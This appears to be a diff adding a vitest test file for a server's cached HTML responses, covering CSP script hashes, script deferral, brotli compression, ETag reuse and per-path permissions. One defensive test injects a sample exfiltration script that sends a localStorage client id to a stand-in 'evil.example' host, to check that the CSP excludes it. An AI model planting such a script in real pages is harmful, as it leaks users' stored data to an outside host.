@@ -1,0 +1,139 @@
+import { createHash } from 'node:crypto';
+import { brotliDecompressSync } from 'node:zlib';
+import { expect, it } from 'vitest';
+import {
+  buildCachedResponse,
+  type CachedResponse,
+  precompressResponse,
+  reuseOrBuildResponse,
+} from './cached-response.ts';
+import { deferScripts } from './first-paint/defer-scripts.ts';
+
+const scripts = {
+  context: 'window.__reactRouterContext = {};',
+  main: 'import "/assets/manifest.js";\nimport("/assets/entry.js");',
+};
+
+const hash = (code: string) => `'sha256-${createHash('sha256').update(code).digest('base64')}'`;
+
+const document = {
+  status: 200,
+  headers: [['content-type', 'text/html; charset=utf-8']] as [string, string][],
+  body: Buffer.from(
+    `<html><head><link rel="modulepreload" href="/assets/a.js"/><link rel="manifest" href="/m"/></head><body><p>${'Daylight. '.repeat(200)}</p>` +
+      '<script type="application/ld+json">{"@type":"Event"}</script><script src="/assets/x.js"></script>' +
+      `<script>${scripts.context}</script><script type="module" async="">${scripts.main}</script></body></html>`,
+  ),
+  scripts: [hash(scripts.context), hash(scripts.main)],
+};
+
+/** What a browser that takes brotli is sent. */
+const bodyOf = (answer: CachedResponse) => answer.br.ready?.body ?? Buffer.alloc(0);
+
+it('allows exactly the inline scripts that the page was rendered with', () => {
+  const policy = buildCachedResponse(document, { path: '/', secured: true }).headers[
+    'content-security-policy'
+  ];
+  expect(policy).toContain(
+    `script-src 'self' ${hash(scripts.context)} ${hash(scripts.main)} https://js.stripe.com`,
+  );
+  expect(policy).not.toContain("script-src 'self' 'unsafe-inline'");
+});
+
+it('allows no script that came into the page in another way', () => {
+  const evil = 'fetch("https://evil.example/" + localStorage.iss_clientId)';
+  const injected = `<p>Hello</p><script>${evil}</script><script type="module" async="">${evil}</script></body>`;
+  const body = Buffer.from(document.body.toString().replace('</body>', injected));
+  const policy = buildCachedResponse({ ...document, body }, { path: '/', shape: late, secured: true })
+    .headers['content-security-policy'];
+  expect(policy).toContain(hash(scripts.context));
+  expect(policy).not.toContain(hash(evil));
+});
+
+const late = (html: string) => deferScripts(html, false);
+
+it('puts the scripts of a late page off, asks for nothing early and still allows what it starts later', () => {
+  const { plain, headers } = buildCachedResponse(document, { path: '/', shape: late, secured: true });
+  const html = plain.body.toString();
+  expect(html).not.toContain('modulepreload"');
+  expect(html).not.toContain('rel="manifest"');
+  expect(html).not.toContain('type="module"');
+  expect(html).toContain(`data-files="/assets/a.js">${scripts.main}</script>`);
+  expect(headers['content-security-policy']).toContain(hash(scripts.main));
+});
+
+it('marks a page whose scripts are to start as soon as it is shown', () => {
+  const { plain } = buildCachedResponse(document, {
+    path: '/',
+    shape: (html) => deferScripts(html, true),
+    secured: true,
+  });
+  expect(plain.body.toString()).toContain('data-files="/assets/a.js" data-now="">');
+});
+
+it('refuses to put off what it does not find, so that no page is left without its scripts', () => {
+  const other = { ...document, body: Buffer.from('<html><script type="module">1</script></html>') };
+  expect(() => buildCachedResponse(other, { path: '/', shape: late, secured: true })).toThrow(
+    'no script to put off',
+  );
+  const bare = { ...document, body: Buffer.from(document.body.toString().replace('"manifest"', '"other"')) };
+  expect(() => buildCachedResponse(bare, { path: '/', shape: late, secured: true })).toThrow(
+    'no manifest to put off',
+  );
+});
+
+it('compresses once and tells the same content by the same tag', async () => {
+  const answer = buildCachedResponse(document, { path: '/', secured: true });
+  expect(await answer.br.make()).toBe(await answer.br.make());
+  expect(brotliDecompressSync((await answer.br.make()).body).toString()).toContain('Daylight');
+  expect(buildCachedResponse(document, { path: '/', secured: true }).headers.etag).toBe(answer.headers.etag);
+});
+
+it('gives the answer before again when the rendering is the same, and compresses that one better', async () => {
+  const before = buildCachedResponse(document, { path: '/', secured: true });
+  const quick = (await before.br.make()).body;
+  expect(reuseOrBuildResponse(before, { ...document }, { path: '/', secured: true })).toBe(before);
+  await expect.poll(() => bodyOf(before).length).toBeLessThan(quick.length);
+  expect(brotliDecompressSync(bodyOf(before))).toEqual(document.body);
+});
+
+it('makes a new answer of another rendering, ready in the forms in which the one before was sent', async () => {
+  const before = buildCachedResponse(document, { path: '/', secured: true });
+  await before.br.make();
+  const changed = { ...document, body: Buffer.from(document.body.toString().replace('Daylight', 'Night')) };
+  const after = reuseOrBuildResponse(before, changed, { path: '/', secured: true });
+  await precompressResponse(after, before);
+  expect(brotliDecompressSync(bodyOf(after)).toString()).toContain('Night');
+  expect(after.gzip.ready).toBeNull();
+  expect(reuseOrBuildResponse(before, { ...document, status: 404 }, { path: '/', secured: true })).not.toBe(
+    before,
+  );
+});
+
+it('lets the door alone use the camera and run compiled code', () => {
+  const of = (path: string) => buildCachedResponse(document, { path, secured: true }).headers;
+  expect(of('/scan')['permissions-policy']).toContain('camera=(self)');
+  expect(of('/scan')['content-security-policy']).toContain("'wasm-unsafe-eval'");
+  for (const path of ['/', '/admin', '/scan/other']) {
+    expect(of(path)['permissions-policy']).toContain('camera=()');
+    expect(of(path)['content-security-policy']).not.toContain('wasm');
+  }
+});
+
+it('allows the one origin of a script of others that counts, when there is one', () => {
+  const of = (counting: string | null) =>
+    buildCachedResponse(document, { path: '/', secured: true, counting }).headers[
+      'content-security-policy'
+    ] ?? '';
+  const allowed = of('https://counting.example')
+    .split('; ')
+    .filter((directive) => directive.includes('https://counting.example'));
+  expect(allowed.map((directive) => directive.split(' ')[0])).toEqual([
+    'script-src',
+    'img-src',
+    'connect-src',
+  ]);
+  expect(of(null)).toBe(
+    buildCachedResponse(document, { path: '/', secured: true }).headers['content-security-policy'],
+  );
+});
